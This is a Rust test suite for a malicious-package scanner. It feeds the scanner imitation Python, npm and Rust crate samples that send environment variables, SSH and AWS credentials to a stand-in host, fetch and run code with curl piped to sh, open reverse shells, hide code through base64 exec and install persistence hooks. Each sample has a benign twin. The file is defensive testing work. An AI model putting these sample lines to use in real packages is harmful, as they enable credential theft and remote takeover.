//! Harmless imitations of what malicious packages do, each beside an honest twin. Nothing here reaches a real host.

use std::io::Cursor;

use fanlight_base::limits::SCAN_EXCERPT_BYTES;

use crate::archive::making::{Zipped, tgz_of, wheel, zip};
use crate::finding::Severity::{self, Critical, High, Info, Medium};
use crate::links::{PLACES, SAME};
use crate::report::{Report, Verdict};
use crate::{Popular, RuleSet, scan};

mod fuzz;

fn scanned(file: &str, bytes: &[u8]) -> Report {
    scan(&mut Cursor::new(bytes), file, &RuleSet::default()).unwrap()
}

fn wheel_with(name: &str, text: &str) -> Report {
    scanned("a-1.0-py3-none-any.whl", &wheel(&[(name, text)], |_| {}))
}

fn setup(text: &str) -> Report {
    scanned("a-1.0.tar.gz", &tgz_of(&[("a-1.0/setup.py", text), ("a-1.0/PKG-INFO", "Name: a\n")]))
}

fn npm(script: &str) -> Report {
    let manifest = r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node scripts/run.js"}}"#;
    scanned("a-1.0.0.tgz", &tgz_of(&[("package/package.json", manifest), ("package/scripts/run.js", script)]))
}

fn crate_with(build: &str) -> Report {
    let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n";
    scanned("a-1.0.0.crate", &tgz_of(&[("a-1.0.0/Cargo.toml", manifest), ("a-1.0.0/build.rs", build)]))
}

fn gravest(report: &Report, rule: &str) -> Option<Severity> {
    report.findings.iter().filter(|finding| finding.rule == rule).map(|finding| finding.severity).max()
}

#[track_caller]
fn found(report: &Report, rule: &str, at_least: Severity) {
    let severity = gravest(report, rule);
    assert!(severity >= Some(at_least), "{rule} is {severity:?} and not {at_least:?} among {:#?}", report.findings);
}

#[track_caller]
fn harmless(report: &Report) {
    assert_eq!(report.verdict, Verdict::NothingFound, "{:#?}", report.findings);
}

#[test]
fn stealing_at_installation_is_found_in_python() {
    for body in [
        "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n",
        "import os as o\nfrom urllib import request as r\nr.urlopen('https://c.example.invalid', data=str(o.environ).encode())\n",
        "import base64, requests, pathlib\np = pathlib.Path.home() / '.ssh' / 'id_rsa'\nkey = base64.b64encode(p.read_bytes())\nrequests.post('https://c.example.invalid', data={'k': key})\n",
        "import os, http.client\ndef collect():\n    with open(os.path.expanduser('~/.aws/credentials')) as f:\n        return f.read()\ndef send(x):\n    c = http.client.HTTPSConnection('c.example.invalid')\n    c.request('POST', '/', body=x)\nsend(collect())\n",
        "import socket, os\ns = socket.socket()\ns.connect(('c.example.invalid', 80))\ns.sendall(repr(os.environ.items()).encode())\n",
        "import os, subprocess\nsubprocess.call('curl -d \"$(env)\" https://c.example.invalid', shell=True)\n",
        "__import__('requests').post('https://c.example.invalid', data=getattr(__import__('os'), 'envi' + 'ron'))\n",
        "import pyperclip, requests\nrequests.get('https://c.example.invalid/?c=' + pyperclip.paste())\n",
        "import shutil, os, requests\nshutil.copy(os.environ['HOME'] + '/.config/google-chrome/Default/Login Data', '/tmp/l.db')\nrequests.post('https://c.example.invalid', files={'f': open('/tmp/l.db', 'rb')})\n",
        "from PIL import ImageGrab\nimport requests\nshot = ImageGrab.grab()\nrequests.post('https://c.example.invalid', files={'s': shot.tobytes()})\n",
    ] {
        let report = setup(body);
        found(&report, "code:steal", Critical);
        assert_eq!(report.verdict, Verdict::Unsafe);
    }
}

#[test]
fn clients_that_show_their_key_are_harmless() {
    harmless(&wheel_with(
        "a/client.py",
        "import os, requests\ndef call(path):\n    token = os.environ['ACME_TOKEN']\n    return requests.get('https://api.example.invalid' + path, headers={'Authorization': token}).json()\n",
    ));
    harmless(&wheel_with(
        "a/__init__.py",
        "import os, requests\nDEBUG = os.environ.get('A_DEBUG')\nproxies = {'http': os.environ.get('HTTP_PROXY')}\ndef get(u):\n    return requests.get(u, proxies=proxies)\n",
    ));
    harmless(&setup(
        "import os, subprocess\nenv = os.environ.copy()\nenv['CC'] = 'cc'\nsubprocess.check_call(['make'], env=env)\n",
    ));
}

#[test]
fn code_that_is_decoded_and_run_is_found() {
    let packed = "QUJD".repeat(80);
    for body in [
        format!("import base64\nexec(base64.b64decode('{packed}'))\n"),
        format!(
            "import zlib, base64\nx = '{packed}'\ny = zlib.decompress(base64.b64decode(x))\nexec(compile(y, 'a', 'exec'))\n"
        ),
        format!("from marshal import loads as l\nimport base64 as b\neval(l(b.b64decode('{packed}')))\n"),
        format!("import builtins, codecs\ngetattr(builtins, 'ex' + 'ec')(codecs.decode('{packed}', 'rot13'))\n"),
        format!("d = lambda s: bytes.fromhex(s)\ndef run(c):\n    exec(c)\nrun(d('{packed}'))\n"),
    ] {
        found(&wheel_with("a/__init__.py", &body), "code:decode-run", Critical);
        found(&setup(&body), "code:decode-run", Critical);
    }
    found(&setup("exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n"), "code:decode-run", Critical);
    found(&npm("eval(Buffer.from('cHJpbnQ=', 'base64').toString())"), "code:decode-run", Critical);
    found(&npm("const v = require('vm'); v.runInThisContext(atob('cHJpbnQ='))"), "code:decode-run", Critical);
    found(&npm("new Function(String.fromCharCode(97,108,101,114,116,40,49,41))()"), "code:decode-run", Critical);
}

#[test]
fn decoding_data_and_running_own_code_are_harmless() {
    harmless(&wheel_with("a/__init__.py", "import base64, json\nDATA = json.loads(base64.b64decode('e30='))\n"));
    harmless(&setup(
        "import os\nabout = {}\nwith open(os.path.join('a', '__version__.py')) as f:\n    exec(f.read(), about)\n",
    ));
    harmless(&wheel_with(
        "a/__init__.py",
        "from collections import namedtuple\nexec('x = 1')\nresult = eval('1 + 1')\n",
    ));
    harmless(&npm("const b = Buffer.from('e30=', 'base64').toString(); console.log(JSON.parse(b))"));
}

/// A program in WebAssembly that says where in a text something stands.
const LEXER: &str = "let machine; const binary = () => Uint8Array.from(atob('AGFzbQEAAAABKwhgAX8BPACKED'), c => c.charCodeAt(0));\n\
     const init = WebAssembly.compile(binary()).then(WebAssembly.instantiate).then(({ exports: e }) => { machine = e; });\n\
     const now = () => { machine = new WebAssembly.Instance(new WebAssembly.Module(binary())).exports; };\n";

#[test]
fn where_a_webassembly_program_cuts_a_text_says_nothing_of_the_text() {
    let lexer = LEXER.replace("PACKED", &"QUJD".repeat(80));
    let decode = "function decode(text) { try { return (0, eval)(text) } catch {} }\n";
    let reads = "const from = machine.is(), to = machine.ie(); names.push(decode(source.slice(from - 1, to + 1)));";
    harmless(&npm(&format!("{lexer}{decode}export function parse(source, names) {{ {reads} }}\n")));
    // What comes out of the program itself, is packed, or is spelt letter by letter is run all the same.
    for run in [
        "eval(new TextDecoder().decode(new Uint8Array(machine.memory.buffer, machine.at(), machine.length())))",
        "eval(String.fromCharCode(machine.next(), machine.next()))",
        "eval(machine.text())",
        "eval('abcdefghijklmnopqrstuvwxyz()'.charAt(machine.next()))",
        "eval(atob(source).slice(machine.is(), machine.ie()))",
        "eval(Buffer.from(machine.memory.buffer).toString().slice(machine.is(), machine.ie()))",
    ] {
        let report = npm(&format!("{lexer}export function parse(source) {{ {run} }}\nparse('x')\n"));
        found(&report, "code:decode-run", Critical);
    }
}

#[test]
fn downloading_and_running_is_found() {
    for body in [
        "import requests\nexec(requests.get('https://c.example.invalid/x.py').text)\n",
        "import os\nos.system('curl -s https://c.example.invalid/x | sh')\n",
        "import os, urllib.request\neval(compile(urllib.request.urlopen('https://c.example.invalid').read(), 'a', 'exec'))\n",
    ] {
        found(&setup(body), "code:download-run", Critical);
    }
    for body in [
        "import urllib.request, subprocess, os\np = '/tmp/x'\nurllib.request.urlretrieve('https://c.example.invalid/x', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n",
        "import requests, subprocess\nr = requests.get('https://c.example.invalid/x')\nwith open('/tmp/x.exe', 'wb') as f:\n    f.write(r.content)\nsubprocess.call('/tmp/x.exe', shell=True)\n",
    ] {
        found(&setup(body), "code:download-run", High);
    }
    found(
        &npm(
            "require('https').get('https://c.example.invalid', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
        ),
        "code:download-run",
        Critical,
    );
    found(&npm("fetch('https://c.example.invalid').then(r => r.text()).then(eval)"), "code:download-run", Critical);
    found(
        &npm(
            "const fs = require('fs'), {execFile} = require('child_process'); const o = fs.createWriteStream('/tmp/x'); require('https').get('https://c.example.invalid', r => { r.pipe(o); o.on('finish', () => execFile('/tmp/x')) })",
        ),
        "code:download-run",
        High,
    );
    found(
        &crate_with(
            "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl https://c.example.invalid | sh\").status().unwrap();\n}\n",
        ),
        "code:download-run",
        Critical,
    );
}

#[test]
fn downloading_data_and_running_known_programs_are_harmless() {
    harmless(&setup(
        "import subprocess\nversion = subprocess.check_output(['git', 'describe']).decode()\nsubprocess.run(['cmake', '--build', '.'], check=True)\n",
    ));
    harmless(&wheel_with(
        "a/fetch.py",
        "import requests\ndef fetch(u):\n    r = requests.get(u)\n    open('data.csv', 'wb').write(r.content)\n",
    ));
    harmless(&npm("require('child_process').execSync('node-gyp rebuild', {stdio: 'inherit'})"));
    harmless(&crate_with(
        "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{out}/x.rs\"), \"pub const X: u8 = 1;\").unwrap();\n    std::process::Command::new(\"cc\").arg(\"-c\").arg(\"x.c\").status().unwrap();\n}\n",
    ));
}

#[test]
fn stealing_is_found_in_javascript_and_rust() {
    for body in [
        "const https = require('https'); const r = https.request('https://c.example.invalid', {method: 'POST'}); r.write(JSON.stringify(process.env)); r.end()",
        "const a = require('axios'), fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); a.post('https://c.example.invalid', {k})",
        "require('dns').lookup(Buffer.from(JSON.stringify({...process.env})).toString('hex') + '.c.example.invalid', () => {})",
        "const cp = require('child_' + 'process'); cp.exec('curl -X POST -d \"$(env)\" https://c.example.invalid')",
    ] {
        found(&npm(body), "code:steal", Critical);
    }
    found(
        &crate_with(
            "fn main() {\n    let all: Vec<_> = std::env::vars().collect();\n    ureq::post(\"https://c.example.invalid\").send_string(&format!(\"{:?}\", all)).unwrap();\n}\n",
        ),
        "code:steal",
        Critical,
    );
    harmless(&npm(
        "const mode = process.env.NODE_ENV; console.log(mode); require('https').get('https://c.example.invalid/' + process.platform)",
    ));
}

#[test]
fn beacons_and_drop_hosts_are_found() {
    found(
        &setup(
            "import socket, getpass, requests\nrequests.get('https://c.example.invalid', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
        ),
        "code:beacon",
        High,
    );
    found(
        &npm("const os = require('os'); require('https').get('https://c.example.invalid/?h=' + os.hostname())"),
        "code:beacon",
        High,
    );
    found(
        &wheel_with(
            "a/__init__.py",
            "import requests\nrequests.post('https://webhook.invalid/123', json={'started': True})\n",
        ),
        "code:drop-host",
        Medium,
    );
    let agent =
        "import platform, requests\ndef get(u):\n    return requests.get(u, headers={'User-Agent': platform.node()})\n";
    harmless(&wheel_with("a/api.py", agent));
}

#[test]
fn reverse_shells_are_found() {
    for body in [
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('c.example.invalid', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
        "import os\nos.system(\"bash -i >& /dev/tcp/c.example.invalid/4444 0>&1\")\n",
    ] {
        found(&setup(body), "code:reverse-shell", Critical);
    }
    found(
        &npm(
            "const n = require('net'), c = require('child_process'); const sh = c.spawn('/bin/sh', []); const k = new n.Socket(); k.connect(4444, 'c.example.invalid', () => { k.pipe(sh.stdin); sh.stdout.pipe(k) })",
        ),
        "code:reverse-shell",
        Critical,
    );
    harmless(&wheel_with(
        "a/server.py",
        "import socket\ns = socket.socket()\ns.connect(('db.example.invalid', 5432))\ns.sendall(b'hello')\nprint(s.recv(100))\n",
    ));
}

#[test]
fn staying_on_the_machine_is_found() {
    found(
        &setup("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python -m a &')\n"),
        "code:persist",
        High,
    );
    found(
        &npm("require('fs').appendFileSync(require('os').homedir() + '/.zshrc', 'node /tmp/x &')"),
        "code:persist",
        High,
    );
    found(
        &setup(
            "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(k, 'a', 0, 1, 'x')\n",
        ),
        "code:persist",
        High,
    );
    harmless(&wheel_with("a/shell.py", "def has_bashrc():\n    return 'a' in open('/home/me/.bashrc').read()\n"));
}

#[test]
fn starts_of_python_and_commands_of_npm_are_found() {
    found(&wheel_with("a.pth", "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"), "install:pth", Critical);
    found(&wheel_with("sitecustomize.py", "print('here')\n"), "install:start-hook", High);
    harmless(&wheel_with("a.pth", "./a/vendored\n"));
    let own = &[("a.pth", "import os; os.getpid(); __import__('a_hook').add()\n"), ("a_hook.py", "x = 1\n")];
    let severity =
        |files: &[(&str, &str)]| gravest(&scanned("a-1.0-py3-none-any.whl", &wheel(files, |_| {})), "install:pth");
    assert_eq!((severity(own), severity(&own[..1])), (Some(Medium), Some(High)));
    // As setuptools has a namespace package's folder found; and what else can be begun so.
    let of_namespace = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('a',));importlib = \
                        __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('a', \
                        importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('a', [os.path.dirname(p)])))\n";
    let loads = "import sys;u = __import__('importlib.util');s = u.util.spec_from_file_location('a', '/tmp/a');\
                 s.loader.exec_module(u.util.module_from_spec(s))\n";
    let of = |line| severity(&[("a-nspkg.pth", line)]);
    assert_eq!((of(of_namespace), of(loads)), (Some(Medium), Some(High)));
    let manifest = |script: &str| {
        let text = format!(r#"{{"name": "a", "scripts": {{"preinstall": "{script}"}}}}"#);
        scanned("a-1.0.0.tgz", &tgz_of(&[("package/package.json", text.as_str())]))
    };
    found(&manifest("curl https://c.example.invalid | sh"), "install:command", Critical);
    harmless(&manifest("node-gyp rebuild"));
    let text = r#"{"name": "a", "dependencies": {"b": "http://c.example.invalid/b.tgz"}}"#;
    found(&scanned("a.tgz", &tgz_of(&[("package/package.json", text)])), "install:remote-dependency", Medium);
}

#[test]
fn what_an_install_script_imports_counts_as_installed() {
    let steal =
        "import os, requests\ndef go():\n    requests.post('https://c.example.invalid', json=dict(os.environ))\n";
    let report = scanned(
        "a-1.0.tar.gz",
        &tgz_of(&[("a-1.0/setup.py", "from helper import go\ngo()\n"), ("a-1.0/helper.py", steal)]),
    );
    found(&report, "code:steal", Critical);
    let backend = "[build-system]\nrequires = []\nbuild-backend = \"own\"\nbackend-path = [\".\"]\n";
    let hook = "import os\ndef build_wheel(d, c=None, m=None):\n    os.system('curl https://c.example.invalid | sh')\n";
    let report = scanned("a-1.0.tar.gz", &tgz_of(&[("a-1.0/pyproject.toml", backend), ("a-1.0/own.py", hook)]));
    found(&report, "code:download-run", Critical);
    assert!(report.at_install.contains("a-1.0/own.py"));
    let class = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('wget https://c.example.invalid/x -O- | bash')\nsetup(cmdclass={'install': I})\n";
    found(&setup(class), "code:download-run", Critical);
}

#[test]
fn hidden_and_unreadable_code_is_found() {
    let aside = format!("x = 1;{}exec('y')\n", " ".repeat(300));
    found(&wheel_with("a/__init__.py", &aside), "text:pushed-aside", High);
    let names: String = (0..40).map(|n| format!("var _0x{:04x}{n:02} = {n};\n", n * 77)).collect();
    found(&npm(&names), "text:obfuscated", Critical);
    found(&wheel_with("a/__init__.py", "# \u{202e}reversed\nx = 1\n"), "text:bidi", Medium);
    let message: String = (0..40).map(|_| '\u{fe01}').collect();
    found(&wheel_with("a/__init__.py", &format!("x = '{message}'\n")), "text:invisible", High);
    let elf = wheel(&[("a/logo.png", "\u{7f}ELF\u{2}\u{1}")], |_| {});
    found(&scanned("a-1.0-py3-none-any.whl", &elf), "file:binary-hidden", High);
    let library = scanned("a-1.0-py3-none-any.whl", &wheel(&[("a/x.so", "\u{7f}ELF\u{2}\u{1}")], |_| {}));
    found(&library, "file:binary", Info);
    harmless(&library);
    harmless(&wheel_with("a/__init__.py", "text = '\u{5e9}\u{5dc}\u{5d5}\u{5dd}'  # \u{2764}\u{fe0f}\n"));
}

/// Counts bound what one file costs: whoever fills it with what costs much hides nothing behind it, and all is as on any machine.
#[test]
fn what_takes_many_steps_to_read_hides_no_theft_beside_it() {
    let steal = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
    for (text, limit) in [
        (format!("{steal}{}", "#\n".repeat(100_000)), "scan_tree_steps"),
        (format!("{}{steal}", "\\\n".repeat(100_000)), "scan_tree_steps"),
        (format!("{}\n{steal}", "a;".repeat(100_000)), "scan_steps"),
    ] {
        let report = setup(&text);
        found(&report, "code:steal", Critical);
        assert!(report.limits.iter().any(|met| met.limit == limit), "{:?}", report.limits);
    }
}

/// What is carried in a large file is found at its place, whatever stands around it.
#[test]
fn a_chain_in_a_large_file_is_found_at_its_line() {
    let filler = "def honest(a):\n    return [value for value in a if value]\n\n".repeat(4000);
    let steal = "def go():\n    import os, requests\n    requests.post('https://c.example.invalid', json=dict(os.environ))\n\ngo()\n";
    let report = wheel_with("a/large.py", &format!("{filler}{steal}{filler}"));
    let finding = report.findings.iter().find(|finding| finding.rule == "code:steal").unwrap();
    assert_eq!((finding.severity, finding.place.line), (Critical, Some(12_003)));
    let bundle = "function honest(a){return a.filter(function(v){return !!v})};".repeat(10_000);
    let run = "eval(Buffer.from('cHJpbnQ=', 'base64').toString());";
    found(&npm(&format!("{bundle}{run}{bundle}")), "code:decode-run", Critical);
    harmless(&npm(&bundle));
}

/// Links all over a file make one part of it, which is larger than what is read: its beginning is read all the same.
#[test]
fn links_all_over_a_large_file_do_not_hide_a_chain() {
    let steal = "import os, requests, base64\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
    let page =
        format!("{}exec(base64.b64decode(y))\n", "def honest(a):\n    return [b for b in a if b]\n\n".repeat(90));
    let report = wheel_with("a/large.py", &format!("{steal}{}", page.repeat(75)));
    found(&report, "code:steal", Critical);
    let unread = report.findings.iter().find(|finding| finding.rule == "file:unread").unwrap();
    let read: usize = unread.evidence.split(' ').next().unwrap().parse().unwrap();
    assert!((200_000..=SCAN_EXCERPT_BYTES).contains(&read), "{}", unread.evidence);
    assert_eq!(report.limits[0].limit, "scan_excerpt_bytes");
}

#[test]
fn words_in_a_comment_do_not_use_up_the_places() {
    let steal = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
    found(&wheel_with("a/large.py", &format!("# {}\n{steal}", "zlib,".repeat(30_000))), "code:steal", Critical);
    // A text of eight megabytes holds more places than are kept only where different links take turns.
    let turns = "zlib exec(x) requests os.environ subprocess ctypes ".to_owned() + &"y".repeat(SAME);
    let many = format!("x = '{turns}'\n").repeat(PLACES / 5);
    let report = wheel_with("a/large.py", &many);
    assert!(report.limits.iter().any(|met| met.limit == "scan_excerpt_bytes"), "{:?}", report.limits);
}

#[test]
fn scripts_that_install_are_read_whole() {
    let filler = "fn honest() -> u8 {\n    1\n}\n".repeat(2000);
    let fetch =
        |name: &str| format!("fn fetch() {{\n    {name}(\"curl https://c.example.invalid | sh\");\n}}\n{filler}");
    let run = "fn start(line: &str) {\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(line).status();\n}\nfn main() {\n    fetch();\n}\n";
    let report = crate_with(&format!("{}{run}", fetch("start")));
    found(&report, "code:download-run", Critical);
    assert!(report.limits.is_empty());
    let setup = |name: &str| {
        let line = "def honest(a):\n    return a\n\n".repeat(2000);
        let text = format!("import base64\ny = base64.b64decode('cHJpbnQ=')\n{line}exec(y)\n");
        gravest(&scanned("a-1.0.tar.gz", &tgz_of(&[(&format!("a-1.0/{name}"), &text)])), "code:decode-run")
    };
    assert_eq!((setup("setup.py"), setup("mysetup.py")), (Some(Critical), None));
}

/// A pattern is held against the bytes as they are in the archive, and not against text that was made of them.
#[cfg(feature = "yara")]
#[test]
fn patterns_see_bytes_that_are_no_text() {
    let own = "rule raw { strings: $a = { FF FE 41 42 } condition: $a }";
    let rules = RuleSet { patterns: crate::patterns::Patterns::new([("own.yar", own)]).unwrap(), ..RuleSet::default() };
    let all = [Zipped::new("a/data.py", b"x = 1 # \xff\xfeAB\n")];
    let report = scan(&mut Cursor::new(zip(&all)), "a-1.0-py3-none-any.whl", &rules).unwrap();
    found(&report, "yara:company.raw", Medium);
}

#[test]
fn a_report_is_stable_and_reads_back() {
    let body = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
    let (one, two) = (setup(body), setup(body));
    let text = serde_json::to_string(&one).unwrap();
    assert_eq!(text, serde_json::to_string(&two).unwrap());
    assert_eq!(serde_json::from_str::<Report>(&text).unwrap(), one);
    let mut shown = one;
    shown.sha256 = "(its digest)".into();
    insta::assert_snapshot!(serde_json::to_string_pretty(&shown).unwrap());
}

#[test]
fn evidence_holds_no_key() {
    let key = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
    let report = setup(&format!(
        "import os, requests\nrequests.post('https://c.example.invalid', headers={{'token': '{key}'}}, json=dict(os.environ))\n"
    ));
    assert!(!serde_json::to_string(&report).unwrap().contains(&key));
    found(&report, "code:steal", Critical);
}

#[test]
fn a_name_near_a_known_one_is_told() {
    let known = [("pypi", "requests"), ("npm", "@acme/colors"), ("cargo", "serde_json")];
    let rules = RuleSet { popular: Popular::new(known), ..RuleSet::default() };
    let scanned = |file: &str, bytes: &[u8]| scan(&mut Cursor::new(bytes), file, &rules).unwrap();
    let one = wheel(&[("a.py", "")], |_| {});
    let report = scanned("reqeusts-1.0-py3-none-any.whl", &one);
    found(&report, "name:near", Medium);
    assert_eq!(report.findings[0].evidence, "reqeusts is close to requests");
    harmless(&scanned("requests-1.0-py3-none-any.whl", &one));
    let empty = tgz_of(&[("a/a.py", "")]);
    found(&scanned("request-s-1.0.tar.gz", &empty), "name:near", Medium);
    found(&scanned("serde-jsom-1.0.0-beta.1.crate", &empty), "name:near", Medium);
    harmless(&scanned("serde_json-1.0.0.crate", &empty));
    // An npm archive's file name leaves the scope out; its own manifest tells the name.
    let of = |name: &str| tgz_of(&[("package/package.json", &format!("{{\"name\": \"{name}\"}}"))]);
    found(&scanned("colours-1.0.0.tgz", &of("@acme/colours")), "name:near", Medium);
    harmless(&scanned("colours-1.0.0.tgz", &of("colours")));
    let report = scan(&mut Cursor::new(&one), "reqeusts-1.0-py3-none-any.whl", &RuleSet::default()).unwrap();
    harmless(&report);
}

#[test]
fn every_rule_is_in_the_guide() {
    let guide = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/scan.md")).unwrap();
    for rule in crate::rules::ALL {
        assert!(guide.contains(&format!("`{}`", rule.id)), "docs/scan.md does not tell of {}", rule.id);
    }
}

/// What runs only where a file is started as a program is told apart from what runs on import, and from what looks like it.
#[test]
fn only_the_guard_itself_keeps_code_from_running_on_import() {
    let steal = "import os, requests\ndef go():\n    requests.post('https://c.example.invalid', headers={'t': os.environ['API_TOKEN']})\n";
    let guarded = |guard: &str| gravest(&wheel_with("a/b.py", &format!("{steal}{guard}")), "code:steal");
    for guard in ["if __name__ == '__main__':\n    go()\n", "if (\"__main__\"  ==  __name__):\n    go()\n"] {
        assert_eq!(guarded(guard), Some(Info), "{guard}");
    }
    for guard in [
        "if __name__ != '__main__':\n    go()\n",
        "if __name__ == '__main__' or go():\n    pass\n",
        "if __name__ == '__main__':\n    pass\nelse:\n    go()\n",
        "if __name__ == '__main__':\n    pass\nelif go():\n    pass\n",
    ] {
        assert_eq!(guarded(guard), Some(High), "{guard}");
    }
    let steal =
        "async function go() { await fetch('https://c.example.invalid', {headers: {t: process.env.API_TOKEN}}) }\n";
    let loaded = |text: &str| scanned("a-1.0.0.tgz", &tgz_of(&[("package/index.js", text)]));
    let guarded = |guard: &str| gravest(&loaded(&format!("{steal}{guard}")), "code:steal");
    for guard in ["if (require.main === module) { go() }", "if (module == require.main) go()"] {
        assert_eq!(guarded(guard), Some(Info), "{guard}");
    }
    for guard in [
        "if (require.main !== module) { go() }",
        "if (require.main === module) { } else { go() }",
        "if (require.main === module || true) { go() }",
        "if (require.main === other) { go() }",
    ] {
        assert_eq!(guarded(guard), Some(High), "{guard}");
    }
}

/// False alarms that well-known packages brought, each beside what must stay one.
#[test]
fn what_a_call_is_set_up_with_is_not_what_it_sends() {
    let run = |options: &str, command: &str| {
        npm(&format!("const c = require('child_process');\nc.spawn('sh', ['-c', '{command}'], {options});\n"))
    };
    assert_eq!(
        gravest(&run("{env: process.env, stdio: 'inherit'}", "curl -s https://c.example.invalid/a"), "code:steal"),
        None
    );
    found(&run("{env: process.env}", "curl -d \"$KEY\" https://c.example.invalid"), "code:steal", Critical);
    found(&run("{input: JSON.stringify(process.env)}", "curl -d @- https://c.example.invalid"), "code:steal", Critical);
    let python = |more: &str| {
        wheel_with("a/b.py", &format!("import os, subprocess, urllib.request\nenv = dict(os.environ)\n{more}\n"))
    };
    let quiet = [
        "import requests\nrequests.get(fetched('a', env=env))",
        "subprocess.run(['curl', 'https://c.example.invalid'], env=env)",
        "urllib.request.urlopen('https://c.example.invalid', context=env)",
    ];
    for text in quiet {
        assert_eq!(gravest(&python(text), "code:steal"), None, "{text}");
    }
    found(&python("urllib.request.urlopen('https://c.example.invalid', data=env)"), "code:steal", Critical);
    found(&python("subprocess.run(['curl', '-d', str(env), 'https://c.example.invalid'])"), "code:steal", Critical);
}

#[test]
fn a_host_out_of_the_environment_is_looked_up_and_data_before_a_domain_is_sent() {
    let lookup = |name: &str| {
        npm(&format!(
            "const dns = require('dns');\nconst host = process.env['DB' + x];\ndns.lookup({name}, () => 1);\n"
        ))
    };
    assert_eq!(gravest(&lookup("host"), "code:steal"), None);
    found(&lookup("host + '.c.example.invalid'"), "code:steal", Critical);
    found(&lookup("[host, domain].join('.')"), "code:steal", Critical);
    let python = |name: &str| {
        wheel_with("a/b.py", &format!("import os, socket\nhost = str(os.environ)\nsocket.gethostbyname({name})\n"))
    };
    assert_eq!(gravest(&python("host"), "code:steal"), None);
    found(&python("'.'.join([host, domain])"), "code:steal", Critical);
    found(&python("f'{host}.{domain}'"), "code:steal", Critical);
}

#[test]
fn a_connection_to_this_machine_hands_it_to_nobody() {
    let shell = |host: &str| {
        wheel_with(
            "a/b.py",
            &format!("import os, socket\ns = socket.socket()\ns.connect(({host}, 4444))\nos.dup2(s.fileno(), 0)\n"),
        )
    };
    assert_eq!(gravest(&shell("'127.0.0.1'"), "code:reverse-shell"), None);
    for host in ["'c.example.invalid'", "host", "'127.0.0.1' + x", "'127.0.0.1.c.example.invalid'"] {
        found(&shell(host), "code:reverse-shell", Critical);
    }
}
